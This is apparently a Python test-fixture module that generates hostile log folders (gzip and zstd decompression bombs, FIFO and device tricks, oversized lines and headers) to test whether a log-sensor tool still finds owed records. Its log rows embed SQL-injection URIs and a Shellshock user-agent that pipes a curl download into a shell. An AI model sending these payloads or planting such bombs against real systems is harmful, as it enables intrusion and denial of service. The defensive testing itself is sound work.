"""Hostile log folders for ``tools.sensor.siege``: what the attack is, and which records must be judged all the same.

Every scenario takes the folder and a scale of its sizes. Records that are owed stand behind the attack, or beside it.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import os
import stat
import threading
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MB = 1_000_000


@dataclass(frozen=True)
class Attack:
    """The uids that are owed; ``act`` does things to the folder while it is read, until it is done or told to end.

    ``harm`` does things to the process of that id, in each session anew. ``prefix`` starts what it is given, ``disk`` is the size of
    the disk of the output, in bytes; ``workers_may_die``: that the system kills some for memory is the point.
    """

    owed: frozenset[str]
    act: Callable[[threading.Event], None] | None = None
    arguments: tuple[str, ...] = ()
    harm: Callable[[int, threading.Event], None] | None = None
    prefix: tuple[str, ...] = ()
    memory: int = 256 << 20
    disk: int = 0
    workers_may_die: bool = False


Scenario = Callable[[Path, float], Attack]
SCENARIOS: dict[str, Scenario] = {}


def scenario(make: Scenario) -> Scenario:
    """List it under its own name."""
    SCENARIOS[make.__name__] = make
    return make


def told(name: str) -> str:
    """What a scenario is, in a sentence."""
    return (SCENARIOS[name].__doc__ or "").splitlines()[0]


def head(path: str, *fields: str) -> str:
    """The header of a Zeek log."""
    names = "\t".join(("ts", "uid", *fields))
    kinds = "\t".join(("time", *["string"] * (1 + len(fields))))
    return f"#separator \\x09\n#set_separator\t,\n#path\t{path}\n#fields\t{names}\n#types\t{kinds}\n"


def row(number: int, uid: str, *values: str) -> str:
    """One of its lines."""
    return "\t".join((f"{1_700_000_000 + number}.0", uid, *values)) + "\n"


INJECTION = "/index.php?id=1'+UNION+SELECT+1,2,user()--"
HOST = "xjqzvwpk8r3tqq1.info"


@scenario
def requests(folder: Path, scale: float) -> Attack:
    """20 requests of 8 kB that alarm, 120 of 900 kB, 40 look-ups of hosts of 64 kB of combining marks."""
    wide = int(900_000 * scale)
    with (folder / "http.log").open("w") as log:
        log.write(head("http", "uri"))
        log.writelines(row(i, f"A{i}", (f"/i{i}?id=1'+union+select+1" + ",1" * 4100)[:8190]) for i in range(20))
        log.writelines(row(100 + i, f"B{i}", f"/{i}?q=" + "a" * wide) for i in range(120))
        log.write(row(900, "LAST", INJECTION))
    with (folder / "dns.log").open("w") as log:
        log.write(head("dns", "query"))
        log.writelines(row(200 + i, f"C{i}", "a\\xcc\\x80" * 8000 + f"{i}.example") for i in range(40))
        log.write(row(900, "LASTHOST", HOST))
    return Attack(frozenset(("LAST", "LASTHOST", *(f"A{i}" for i in range(20)))))


@scenario
def gzip_bomb(folder: Path, scale: float) -> Attack:
    """30 GB of zeros in a gzip of 31 MB, and a record behind."""
    packer, zeros = zlib.compressobj(6, zlib.DEFLATED, 31), bytes(1 << 20)
    member = b"".join(packer.compress(zeros) for _ in range(int(1024 * scale) + 1)) + packer.flush()
    with (folder / "dns.a.log.gz").open("wb") as log:
        log.write(gzip.compress((head("dns", "query") + row(0, "FIRST", "kernel.org")).encode()))
        for _ in range(30):
            log.write(member)
        log.write(gzip.compress(f"\n{row(1, 'LAST', HOST)}".encode()))
    return Attack(frozenset(("FIRST", "LAST")))


@scenario
def zstd_bomb(folder: Path, scale: float) -> Attack:
    """30 GB of zeros in zstd frames, and a record behind."""
    import zstandard

    packer, zeros = zstandard.ZstdCompressor(level=3), bytes(int(scale * (1 << 30)) + 1)
    frame = packer.compress(zeros)
    with (folder / "dns.a.log.zst").open("wb") as log:
        log.write(packer.compress((head("dns", "query") + row(0, "FIRST", "kernel.org")).encode()))
        for _ in range(30):
            log.write(frame)
        log.write(packer.compress(f"\n{row(1, 'LAST', HOST)}".encode()))
    return Attack(frozenset(("FIRST", "LAST")))


@scenario
def zstd_windows(folder: Path, scale: float) -> Attack:
    """60 zstd logs whose frames want windows of 8 MB, and four that want 128 MB, each log with records between megabytes of letters."""
    import zstandard

    count, letters = int(60 * scale), "".join(f"{i:07x}" for i in range(1 << 17))
    for i in range(count + 4):
        options = zstandard.ZstdCompressionParameters.from_level(1, window_log=23 if i < count else 27, write_content_size=0)
        packer = zstandard.ZstdCompressor(compression_params=options).compressobj()
        with (folder / f"dns.{i}.log.zst").open("wb") as log:
            log.write(packer.compress(head("dns", "query").encode()))
            for k in range(12 if i < count else 150):
                log.write(packer.compress(f"{row(100 * k + i, f'Z{i}', HOST)}#{letters}\n".encode()))
            log.write(packer.flush())
    (folder / "zz.log").write_text(head("dns", "query") + row(0, "LAST", HOST))
    return Attack(frozenset(("LAST", *(f"Z{i}" for i in range(count)))))


@scenario
def line_bomb(folder: Path, scale: float) -> Attack:
    """4 GB of one line of letters, 2 GB of newlines and 100,000 gzip members of a line, each in a gzip."""
    for name, text in (("letters", b"a" * (1 << 20)), ("newlines", b"\n" * (1 << 20))):
        packer = zlib.compressobj(6, zlib.DEFLATED, 31)
        member = b"".join(packer.compress(text) for _ in range(int(1024 * scale) + 1)) + packer.flush()
        with (folder / f"dns.{name}.log.gz").open("wb") as log:
            for _ in range(4 if name == "letters" else 2):
                log.write(member)
            log.write(gzip.compress(("\n" + head("dns", "query") + row(1, name.upper(), HOST)).encode()))
    one = gzip.compress(b"1700000000.0\tM\tkernel.org\n", mtime=0)
    with (folder / "dns.members.log.gz").open("wb") as log:
        log.write(gzip.compress(head("dns", "query").encode()) + one * int(100_000 * scale))
        log.write(gzip.compress(row(1, "MEMBERS", HOST).encode()))
    return Attack(frozenset(("LETTERS", "NEWLINES", "MEMBERS")))


@scenario
def many_files(folder: Path, scale: float) -> Attack:
    """12,000 logs of one record."""
    count = int(12_000 * scale)
    for i in range(count):
        (folder / f"dns.{i}.log").write_text(head("dns", "query") + row(i, f"M{i}", "kernel.org"))
    return Attack(frozenset(f"M{i}" for i in range(count)))


@scenario
def fifo_beside_gzip(folder: Path, scale: float) -> Attack:
    """A FIFO beside a gzip of its name, FIFOs and devices with names of logs, and a log behind them."""
    del scale
    for name in ("a.log", "dns.log", "zz.json"):
        os.mkfifo(folder / name)
    for name, target in (("http.log", "/dev/zero"), ("conn.log", "/dev/full"), ("loop.log", "loop.log")):
        (folder / name).symlink_to(target)
    with contextlib.suppress(PermissionError):
        os.mknod(folder / "ssl.log", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    for name, uid in (("a.log.gz", "GZIP"), ("dns.log.gz", "GZIPTWO")):
        (folder / name).write_bytes(gzip.compress((head("dns", "query") + row(0, uid, HOST)).encode()))
    (folder / "zzz.log").write_text(head("dns", "query") + row(0, "LAST", HOST))
    return Attack(frozenset(("GZIP", "GZIPTWO", "LAST")))


@scenario
def name_that_changes(folder: Path, scale: float) -> Attack:
    """One name that is a FIFO, a link to a device, a loop, a folder, a device, and at last a log."""
    place = folder / "dns.log"

    def clear() -> None:
        if place.is_dir() and not place.is_symlink():
            place.rmdir()
        else:
            place.unlink(missing_ok=True)

    def act(over: threading.Event) -> None:
        turns: list[Callable[[], object]] = [
            lambda: os.mkfifo(place),
            lambda: place.symlink_to("/dev/zero"),
            lambda: place.symlink_to("dns.log"),
            place.mkdir,
            lambda: os.mknod(place, stat.S_IFCHR | 0o666, os.makedev(1, 5)),
            lambda: place.write_bytes(b""),
        ]
        for turn in turns * max(1, int(6 * scale)):
            clear()
            with contextlib.suppress(PermissionError):
                turn()
            if over.wait(0.7):
                break
        clear()
        place.write_text(head("dns", "query") + row(0, "LAST", HOST))

    (folder / "other.log").write_text(head("dns", "query") + row(0, "OTHER", HOST))
    return Attack(frozenset(("LAST", "OTHER")), act)


@scenario
def json_lines(folder: Path, scale: float) -> Attack:
    """JSON: 300 lines 100,000 deep, 60 of 100,000 keys, 60 of 25,000 strings, 200 of escapes only, numbers of 4,000 digits."""
    deep, wide = int(100_000 * scale), int(60_000 * scale)
    lines = [("[" * deep) for _ in range(150)] + ['{"query":' * deep for _ in range(150)]
    lines += [json.dumps({f"k{i}": n for i in range(wide)} | {"uid": f"K{n}", "query": f"h{n}.example"}) for n in range(60)]
    lines += [json.dumps({"uid": f"S{n}", "query": [f"h{i}.n{n}.example" for i in range(int(25_000 * scale))]}) for n in range(60)]
    lines += ['{"uid":"E","query":"' + "\\u0000\\ud800" * int(60_000 * scale) + '"}' for _ in range(200)]
    lines += ['{"ts":' + "9" * 4000 + f',"uid":"N{n}","query":"h{n}.example"}}' for n in range(500)]
    with (folder / "dns.json").open("w") as log:
        log.writelines(f"{line}\n" for line in lines)
        log.write(json.dumps({"ts": 1.7e9, "uid": "LAST", "query": HOST}) + "\n")
    return Attack(frozenset(("LAST",)))


@scenario
def zeek_headers(folder: Path, scale: float) -> Attack:
    """A Zeek log whose header has 100,000 fields, then 50,000 header lines, rows of 200,000 columns, and a record behind."""
    with (folder / "dns.log").open("w") as log:
        log.write(head("dns", "query", *(f"f{i}" for i in range(int(100_000 * scale)))))
        for i in range(int(25_000 * scale)):
            log.write(f"#path\tp{i}\n#types\tstring\n")
        for i in range(50):
            log.write(row(i, f"W{i}", *("x" for _ in range(int(200_000 * scale)))))
        for i in range(int(300 * scale)):
            log.write("#fields\tts\tuid\t" + "\t".join(f"q{k}" for k in range(5000)) + f"\n#path\td{i}\n")
        log.write(head("dns", "query") + row(1, "LAST", HOST))
    return Attack(frozenset(("LAST",)))


@scenario
def rotation_while_bombed(folder: Path, scale: float) -> Attack:
    """A log that rotates every second, by rename, by copy and cut, and into gzip, while bombs of 2 GB lie beside it."""
    packer, zeros = zlib.compressobj(6, zlib.DEFLATED, 31), bytes(1 << 20)
    bomb = b"".join(packer.compress(zeros) for _ in range(int(2048 * scale) + 1)) + packer.flush()
    for i in range(3):
        (folder / f"bomb.{i}.log.gz").write_bytes(bomb)
    count = int(40 * scale) + 3

    def act(over: threading.Event) -> None:
        current = folder / "dns.log"
        for i in range(count):
            with current.open("a") as log:
                log.write((head("dns", "query") if log.tell() == 0 else "") + row(i, f"R{i}", f"host{i}.example"))
            if over.wait(1.0):
                break
            if i % 3 == 0:
                current.rename(folder / f"dns.{i}.log")
            elif i % 3 == 1:
                (folder / f"dns.{i}.log.gz").write_bytes(gzip.compress(current.read_bytes()))
                current.unlink()

    return Attack(frozenset(f"R{i}" for i in range(count)), act)


@scenario
def many_alarms(folder: Path, scale: float) -> Attack:
    """300 requests of 4 kB that all alarm, each with another word in it."""
    count = int(300 * scale)
    with (folder / "http.log").open("w") as log:
        log.write(head("http", "host", "uri", "user_agent"))
        for i in range(count):
            uri = f"/a{i}?q=" + "&".join(f"p{k}=%27or+{i}={k}--" for k in range(250))
            log.write(row(i, f"Q{i}", f"h{i}.example", uri[:4096], f"() {{ :; }}; /bin/sh -c 'curl {i}.example|sh'"))
        log.write(row(count, "LAST", "x.example", INJECTION, "curl/8"))
    return Attack(frozenset(("LAST",)))


@scenario
def long_names(folder: Path, scale: float) -> Attack:
    """600 records whose log name, client, server and host are texts of 200 kB, each another one."""
    wide = "n" * int(200_000 * scale)
    with (folder / "dns.json").open("w") as log:
        for i in range(600):
            record = {"_path": f"dns{wide}{i}" if i % 2 else "dns", "ts": 1.7e9 + i, "uid": f"{wide}{i}", "query": f"h{i}.example"}
            record |= {"id.orig_h": f"{wide}{i}", "id.resp_h": f"{wide}.{i}", "host": f"{i}.{wide}"}
            log.write(json.dumps(record) + "\n")
        log.write(json.dumps({"_path": "dns", "ts": 1.7e9 + 900, "uid": "LAST", "query": HOST}) + "\n")
    return Attack(frozenset(("LAST",)))


@scenario
def wide_headers(folder: Path, scale: float) -> Attack:
    """1,000 Zeek logs with headers of 60 kB, each with other names, and a record in each."""
    count = int(1_000 * scale)
    for i in range(count):
        names = [f"{k}_of_log_{i}" for k in range(int(3_800 * scale))]
        (folder / f"dns.{i}.log").write_text(head("dns", "query", *names) + row(i, f"W{i}", "kernel.org", *("-" for _ in names)))
    (folder / "zz.log").write_text(head("dns", "query") + row(0, "LAST", HOST))
    return Attack(frozenset(("LAST", *(f"W{i}" for i in range(count)))))


@scenario
def unfinished_lines(folder: Path, scale: float) -> Attack:
    """500 logs whose only line has 900 kB and does not end; after a while fifty of them do, and a log is beside them."""
    late = 50

    def act(over: threading.Event) -> None:
        over.wait(15.0)
        for i in range(late):
            with (folder / f"dns.{i}.log").open("a") as log:
                log.write(".example\n")

    for i in range(500):
        (folder / f"dns.{i}.log").write_text(head("dns", "query") + f"1700000000.0\tU{i}\t" + "a" * int(900_000 * scale))
    (folder / "zz.log").write_text(head("dns", "query") + row(0, "LAST", HOST))
    return Attack(frozenset(("LAST", *(f"U{i}" for i in range(late)))), act)


@scenario
def many_records_a_line(folder: Path, scale: float) -> Attack:
    """Lines of 400 kB of which each holds very many records: lists, wide envelopes, objects behind each other, events in XML."""
    many = int(10_000 * scale)
    small = [f'{{"ts":{1_700_000_000 + i},"query":"h{i}.example"}}' for i in range(many)]
    wide = "{" + ",".join(f'"k{i}":{i}' for i in range(2 * many))
    nested = ",".join(['{"n":1,"event":{"m":2}}'] * many)
    event = "<Event><EventData><Data Name='CommandLine'>cmd /c {0}</Data></EventData></Event>"
    with (folder / "dns.json").open("w") as log:
        for i in range(3):
            log.write("[" + ",".join(small) + "]\n" + '{"records":[' + ",".join(small) + "]}\n" + "".join(small) + "\n")
            log.write(f'{wide},"records":[{nested}]}}\n')
            log.write("".join(event.format(k) for k in range(many // 3)) + "\n")
            log.write(json.dumps({"ts": 1.7e9, "uid": f"A{i}", "query": [f"q{k}.example" for k in range(many)]}) + "\n")
        log.write(json.dumps({"_path": "dns", "ts": 1.7e9 + 900, "uid": "LAST", "query": HOST}) + "\n")
    return Attack(frozenset(("LAST",)))
